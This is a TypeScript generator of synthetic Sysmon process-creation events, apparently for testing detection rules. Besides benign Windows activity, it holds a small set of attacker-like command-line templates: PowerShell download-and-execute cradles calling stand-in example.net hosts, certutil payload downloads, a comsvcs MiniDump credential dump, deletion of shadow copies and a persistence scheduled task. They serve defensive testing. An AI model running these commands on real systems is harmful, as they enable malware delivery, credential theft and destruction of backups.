/**
 * Deterministic synthetic Sysmon EID 1 (process creation) events for benchmarks and equivalence tests:
 * a seeded PRNG picks from weighted templates of everyday Windows activity, plus a small share of
 * attacker-like command lines so that rules actually fire.
 */

/** Mulberry32: tiny, fast, good enough for test data; the same seed gives the same stream everywhere. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Template {
  readonly weight: number;
  readonly image: string;
  readonly meta: readonly [description: string, product: string, company: string, originalFileName: string];
  readonly cmd: readonly string[];
  readonly parents: readonly string[];
  readonly user: 'system' | 'user' | 'service' | 'admin';
  readonly integrity?: string;
}

const MS = 'Microsoft® Windows® Operating System';
const MSC = 'Microsoft Corporation';
const S32 = 'C:\\Windows\\System32';
const PS = `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const EXPLORER = 'C:\\Windows\\explorer.exe';
const SVCHOST = `${S32}\\svchost.exe`;
const SERVICES = `${S32}\\services.exe`;
const CMD = `${S32}\\cmd.exe`;

// Placeholders in templates: {user} {guid} {n} {hex} {host} {file} {url} {b64}
const TEMPLATES: readonly Template[] = [
  { weight: 60, image: SVCHOST, meta: ['Host Process for Windows Services', MS, MSC, 'svchost.exe'], cmd: ['C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts', 'C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc', 'C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{hex}'], parents: [SERVICES], user: 'system', integrity: 'System' },
  { weight: 50, image: `${S32}\\conhost.exe`, meta: ['Console Window Host', MS, MSC, 'CONHOST.EXE'], cmd: ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', '\\??\\C:\\Windows\\system32\\conhost.exe 0x4'], parents: [CMD, PS, 'C:\\Program Files\\Git\\bin\\git.exe'], user: 'user' },
  { weight: 70, image: CHROME, meta: ['Google Chrome', 'Google Chrome', 'Google LLC', 'chrome.exe'], cmd: ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1700000{n} --launch-time-ticks={n} --field-trial-handle=1920,i,{hex},{hex},262144 --mojo-platform-channel-handle={n} /prefetch:1', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:8', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" {url}'], parents: [CHROME, EXPLORER], user: 'user', integrity: 'Low' },
  { weight: 40, image: EDGE, meta: ['Microsoft Edge', 'Microsoft Edge', MSC, 'msedge.exe'], cmd: ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument {url}'], parents: [EDGE, EXPLORER], user: 'user', integrity: 'Low' },
  { weight: 25, image: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', meta: ['Microsoft Teams', 'Microsoft Teams', MSC, 'Teams.exe'], cmd: ['"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle={n},{hex} --lang=en-US --app-path="C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\resources\\app.asar" --mojo-platform-channel-handle={n} /prefetch:1'], parents: ['C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe'], user: 'user', integrity: 'Medium' },
  { weight: 20, image: `${S32}\\RuntimeBroker.exe`, meta: ['Runtime Broker', MS, MSC, 'RuntimeBroker.exe'], cmd: ['C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'], parents: [SVCHOST], user: 'user', integrity: 'Medium' },
  { weight: 15, image: `${S32}\\backgroundTaskHost.exe`, meta: ['Background Task Host', MS, MSC, 'backgroundTaskHost.exe'], cmd: ['"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', '"C:\\Windows\\system32\\BackgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider'], parents: [SVCHOST], user: 'user' },
  { weight: 15, image: `${S32}\\SearchProtocolHost.exe`, meta: ['Microsoft Windows Search Protocol Host', MS, MSC, 'SearchProtocolHost.exe'], cmd: ['"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"'], parents: ['C:\\Windows\\System32\\SearchIndexer.exe'], user: 'system', integrity: 'System' },
  { weight: 12, image: `${S32}\\wbem\\WmiPrvSE.exe`, meta: ['WMI Provider Host', MS, MSC, 'Wmiprvse.exe'], cmd: ['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding'], parents: [SVCHOST], user: 'service', integrity: 'System' },
  { weight: 12, image: `${S32}\\dllhost.exe`, meta: ['COM Surrogate', MS, MSC, 'dllhost.exe'], cmd: ['C:\\Windows\\system32\\DllHost.exe /Processid:{guid}'], parents: [SVCHOST], user: 'user', integrity: 'Medium' },
  { weight: 14, image: CMD, meta: ['Windows Command Processor', MS, MSC, 'Cmd.Exe'], cmd: ['"C:\\Windows\\system32\\cmd.exe" /c "C:\\Program Files\\nodejs\\npm.cmd" run build', 'C:\\Windows\\system32\\cmd.exe /d /s /c "git status --porcelain"', '"C:\\Windows\\system32\\cmd.exe"', 'cmd.exe /c echo %PATH%', 'C:\\Windows\\system32\\cmd.exe /c ""C:\\ProgramData\\Scripts\\backup_{n}.bat" "'], parents: [EXPLORER, 'C:\\Program Files\\Microsoft VS Code\\Code.exe', `${S32}\\taskeng.exe`, SVCHOST], user: 'user', integrity: 'Medium' },
  { weight: 12, image: PS, meta: ['Windows PowerShell', MS, MSC, 'PowerShell.EXE'], cmd: ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory_{n}.ps1', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -NonInteractive -Command "Get-ChildItem -Path C:\\Users\\{user}\\Documents -Recurse | Measure-Object"', 'powershell.exe -Command "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5"', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"'], parents: [EXPLORER, CMD, SVCHOST], user: 'user', integrity: 'Medium' },
  { weight: 15, image: 'C:\\Program Files\\Git\\cmd\\git.exe', meta: ['Git for Windows', 'Git', 'The Git Development Community', 'git.exe'], cmd: ['"C:\\Program Files\\Git\\cmd\\git.exe" fetch --prune origin', 'git.exe -c core.quotepath=false log --pretty=format:%H -n {n}', '"C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall', 'git rev-parse --show-toplevel'], parents: ['C:\\Program Files\\Microsoft VS Code\\Code.exe', CMD], user: 'user', integrity: 'Medium' },
  { weight: 12, image: 'C:\\Program Files\\nodejs\\node.exe', meta: ['Node.js JavaScript Runtime', 'Node.js', 'Node.js', 'node.exe'], cmd: ['"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" run build', '"C:\\Program Files\\nodejs\\node.exe" C:\\Users\\{user}\\src\\app\\node_modules\\vite\\bin\\vite.js --port {n}'], parents: [CMD, 'C:\\Program Files\\Microsoft VS Code\\Code.exe'], user: 'user', integrity: 'Medium' },
  { weight: 10, image: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', meta: ['Visual Studio Code', 'Visual Studio Code', MSC, 'electron.exe'], cmd: ['"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} --field-trial-handle={n},i,{hex} /prefetch:8'], parents: ['C:\\Program Files\\Microsoft VS Code\\Code.exe'], user: 'user', integrity: 'Medium' },
  { weight: 8, image: `${S32}\\taskhostw.exe`, meta: ['Host Process for Windows Tasks', MS, MSC, 'taskhostw.exe'], cmd: ['taskhostw.exe {guid}', 'taskhostw.exe Install $(Arg0)'], parents: [SVCHOST], user: 'user', integrity: 'Medium' },
  { weight: 8, image: `${S32}\\msiexec.exe`, meta: ['Windows® installer', MS, MSC, 'msiexec.exe'], cmd: ['C:\\Windows\\System32\\MsiExec.exe -Embedding {hex} E Global\\MSI0000', 'C:\\Windows\\system32\\msiexec.exe /V'], parents: [SERVICES, 'C:\\Windows\\System32\\msiexec.exe'], user: 'system', integrity: 'System' },
  { weight: 6, image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', meta: ['Microsoft Word', 'Microsoft Office', MSC, 'WinWord.exe'], cmd: ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{file}.docx" /o ""'], parents: [EXPLORER], user: 'user', integrity: 'Medium' },
  { weight: 6, image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', meta: ['Microsoft Outlook', 'Microsoft Office', MSC, 'Outlook.exe'], cmd: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'], parents: [EXPLORER], user: 'user', integrity: 'Medium' },
  { weight: 5, image: `${S32}\\notepad.exe`, meta: ['Notepad', MS, MSC, 'NOTEPAD.EXE'], cmd: ['"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{user}\\Desktop\\{file}.txt'], parents: [EXPLORER], user: 'user', integrity: 'Medium' },
  { weight: 5, image: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', meta: ['Microsoft OneDrive', 'Microsoft OneDrive', MSC, 'OneDrive.exe'], cmd: ['"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'], parents: [EXPLORER], user: 'user', integrity: 'Medium' },
  { weight: 4, image: `${S32}\\sc.exe`, meta: ['Service Control Manager Configuration Tool', MS, MSC, 'sc.exe'], cmd: ['sc.exe query state= all', 'C:\\Windows\\system32\\sc.exe qc wuauserv'], parents: [CMD], user: 'admin', integrity: 'High' },
  { weight: 4, image: `${S32}\\ipconfig.exe`, meta: ['IP Configuration Utility', MS, MSC, 'ipconfig.exe'], cmd: ['ipconfig /all', 'ipconfig /flushdns'], parents: [CMD], user: 'user', integrity: 'Medium' },
  { weight: 4, image: `${S32}\\tasklist.exe`, meta: ['Lists the current running tasks', MS, MSC, 'tasklist.exe'], cmd: ['tasklist /v /fo csv'], parents: [CMD], user: 'user', integrity: 'Medium' },
  { weight: 4, image: `${S32}\\reg.exe`, meta: ['Registry Console Tool', MS, MSC, 'reg.exe'], cmd: ['reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v ProductName'], parents: [CMD], user: 'user', integrity: 'Medium' },
  { weight: 4, image: 'C:\\Program Files\\7-Zip\\7z.exe', meta: ['7-Zip Console', '7-Zip', 'Igor Pavlov', '7z.exe'], cmd: ['"C:\\Program Files\\7-Zip\\7z.exe" x C:\\Users\\{user}\\Downloads\\{file}.zip -oC:\\Users\\{user}\\Downloads\\{file}'], parents: [EXPLORER], user: 'user', integrity: 'Medium' },
  { weight: 3, image: 'C:\\Program Files\\Python312\\python.exe', meta: ['Python', 'Python', 'Python Software Foundation', 'python.exe'], cmd: ['"C:\\Program Files\\Python312\\python.exe" -m pip install --upgrade requests', 'python.exe C:\\Users\\{user}\\src\\tools\\report_{n}.py --out C:\\Users\\{user}\\Desktop\\{file}.csv'], parents: [CMD, PS], user: 'user', integrity: 'Medium' },
  { weight: 3, image: `${S32}\\consent.exe`, meta: ['Consent UI for administrative applications', MS, MSC, 'consent.exe'], cmd: ['consent.exe {n} 310 000001E9{hex}'], parents: [SVCHOST], user: 'system', integrity: 'System' },
  { weight: 3, image: `${S32}\\wevtutil.exe`, meta: ['Eventing Command Line Utility', MS, MSC, 'wevtutil.exe'], cmd: ['wevtutil.exe qe System /c:20 /rd:true /f:text'], parents: [CMD], user: 'admin', integrity: 'High' },
  { weight: 3, image: `${S32}\\net.exe`, meta: ['Net Command', MS, MSC, 'net.exe'], cmd: ['net use Z: \\\\fileserver{n}\\share /persistent:no', 'net time \\\\dc01'], parents: [CMD], user: 'user', integrity: 'Medium' },
  // Attacker-like activity (about 2 % of events) so that rules fire.
  { weight: 1, image: PS, meta: ['Windows PowerShell', MS, MSC, 'PowerShell.EXE'], cmd: ['powershell.exe -nop -w hidden -enc {b64}', 'powershell.exe -ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'{url}\')"', 'powershell -c "Invoke-Command -ComputerName srv{n} -ScriptBlock { whoami }"'], parents: [CMD, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', `${S32}\\wbem\\WmiPrvSE.exe`], user: 'user', integrity: 'Medium' },
  { weight: 1, image: `${S32}\\certutil.exe`, meta: ['CertUtil.exe', MS, MSC, 'CertUtil.exe'], cmd: ['certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\{file}.exe', 'certutil -decode C:\\Users\\Public\\{file}.b64 C:\\Users\\Public\\{file}.dll'], parents: [CMD], user: 'user', integrity: 'Medium' },
  { weight: 1, image: `${S32}\\rundll32.exe`, meta: ['Windows host process (Rundll32)', MS, MSC, 'RUNDLL32.EXE'], cmd: ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Windows\\Temp\\{file}.dmp full', 'rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{file}.dll,DllRegisterServer'], parents: [CMD, PS], user: 'admin', integrity: 'High' },
  { weight: 1, image: `${S32}\\mshta.exe`, meta: ['Microsoft (R) HTML Application host', MS, MSC, 'MSHTA.EXE'], cmd: ['mshta.exe {url}', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop"":close")'], parents: [EXPLORER, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE'], user: 'user', integrity: 'Medium' },
  { weight: 1, image: `${S32}\\vssadmin.exe`, meta: ['Command Line Interface for Microsoft® Volume Shadow Copy Service', MS, MSC, 'VSSADMIN.EXE'], cmd: ['vssadmin.exe delete shadows /all /quiet', 'vssadmin list shadows'], parents: [CMD], user: 'admin', integrity: 'High' },
  { weight: 1, image: `${S32}\\schtasks.exe`, meta: ['Task Scheduler Configuration Tool', MS, MSC, 'schtasks.exe'], cmd: ['schtasks /create /sc minute /mo 15 /tn "Updater{n}" /tr "C:\\Users\\Public\\{file}.exe" /f', 'schtasks /query /fo LIST /v'], parents: [CMD, PS], user: 'admin', integrity: 'High' },
  { weight: 1, image: `${S32}\\whoami.exe`, meta: ['whoami - displays logged on user information', MS, MSC, 'whoami.exe'], cmd: ['whoami /all', 'whoami /priv'], parents: [CMD, 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'], user: 'service', integrity: 'High' },
  { weight: 1, image: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\AnyDesk.exe', meta: ['AnyDesk', 'AnyDesk', 'AnyDesk Software GmbH', 'AnyDesk.exe'], cmd: ['"C:\\Users\\{user}\\AppData\\Local\\Temp\\AnyDesk.exe" --control'], parents: [CHROME, EXPLORER], user: 'user', integrity: 'Medium' },
];

const USERS = ['jdoe', 'asmith', 'mgarcia', 'wchen', 'lnguyen', 'pkowalski', 'oadeyemi', 'rsingh', 'ebrown', 'tmuller', 'ksato', 'fdubois'];
const FILES = ['Q3_report', 'invoice_2291', 'notes', 'budget-final', 'setup', 'payload', 'update', 'meeting_minutes', 'readme', 'export'];
const HOSTS = ['WS-FIN-042', 'WS-ENG-117', 'WS-HR-009', 'SRV-APP02', 'SRV-DB01', 'LT-SALES-221', 'LT-DEV-305'];

const HEX = '0123456789ABCDEF';

export interface SyntheticOptions {
  /** Start time (ms since epoch); events are 1-200 ms apart. */
  readonly start?: number;
}

/** `count` events from `seed`; the same arguments always give the same events. */
export function generateProcessEvents(count: number, seed: number, options: SyntheticOptions = {}): Record<string, unknown>[] {
  const rnd = seededRandom(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const hex = (n: number): string => {
    let s = '';
    for (let i = 0; i < n; i++) s += HEX[Math.floor(rnd() * 16)];
    return s;
  };
  const guid = (): string => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
  const total = TEMPLATES.reduce((a, t) => a + t.weight, 0);
  const choose = (): Template => {
    let r = rnd() * total;
    for (const t of TEMPLATES) {
      r -= t.weight;
      if (r < 0) return t;
    }
    return TEMPLATES[0]!;
  };
  let time = options.start ?? Date.UTC(2026, 10, 23, 8, 0, 0);
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    time += 1 + Math.floor(rnd() * 200);
    const t = choose();
    const user = pick(USERS);
    const fill = (s: string): string =>
      s.replace(/\{(user|guid|n|hex|host|file|url|b64)\}/g, (_, k: string) => {
        switch (k) {
          case 'user':
            return user;
          case 'guid':
            return guid();
          case 'n':
            return String(Math.floor(rnd() * 100000));
          case 'hex':
            return hex(16);
          case 'host':
            return pick(HOSTS);
          case 'file':
            return pick(FILES);
          case 'url':
            return `http://${pick(['cdn', 'update', 'files', 'static'])}${Math.floor(rnd() * 100)}.example.net/${pick(FILES)}`;
          default:
            return utf16leBase64(`IEX (New-Object Net.WebClient).DownloadString('http://x${hex(4)}.example.net/a')`);
        }
      });
    const image = fill(t.image);
    const parent = fill(pick(t.parents));
    const account =
      t.user === 'system' ? 'NT AUTHORITY\\SYSTEM' : t.user === 'service' ? 'NT AUTHORITY\\NETWORK SERVICE' : t.user === 'admin' ? `CORP\\adm-${user}` : `CORP\\${user}`;
    const iso = new Date(time).toISOString();
    const [description, product, company, ofn] = t.meta;
    out.push({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Computer: `${pick(HOSTS)}.corp.example.com`,
      '@timestamp': iso,
      RuleName: '-',
      UtcTime: iso.replace('T', ' ').replace('Z', ''),
      ProcessGuid: guid(),
      ProcessId: 100 + Math.floor(rnd() * 30000),
      Image: image,
      FileVersion: `10.0.19041.${Math.floor(rnd() * 5000)} (WinBuild.160101.0800)`,
      Description: description,
      Product: product,
      Company: company,
      OriginalFileName: ofn,
      CommandLine: fill(pick(t.cmd)),
      CurrentDirectory: pick([`C:\\Users\\${user}\\`, 'C:\\Windows\\system32\\', `C:\\Users\\${user}\\src\\app\\`]),
      User: account,
      LogonGuid: guid(),
      LogonId: `0x${hex(6)}`,
      TerminalSessionId: t.user === 'system' ? 0 : 1,
      IntegrityLevel: t.integrity ?? 'Medium',
      Hashes: `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`,
      ParentProcessGuid: guid(),
      ParentProcessId: 100 + Math.floor(rnd() * 30000),
      ParentImage: parent,
      ParentCommandLine: `"${parent}"`,
      ParentUser: account,
    });
  }
  return out;
}

/**
 * base64 of the UTF-16LE bytes of `text` (PowerShell's -EncodedCommand form), with btoa rather than Buffer so the
 * main entry runs in a browser. Each UTF-16 code unit is two bytes, low first.
 */
function utf16leBase64(text: string): string {
  let bytes = '';
  for (let i = 0; i < text.length; i++) {
    const u = text.charCodeAt(i);
    bytes += String.fromCharCode(u & 0xff, u >> 8);
  }
  return btoa(bytes);
}
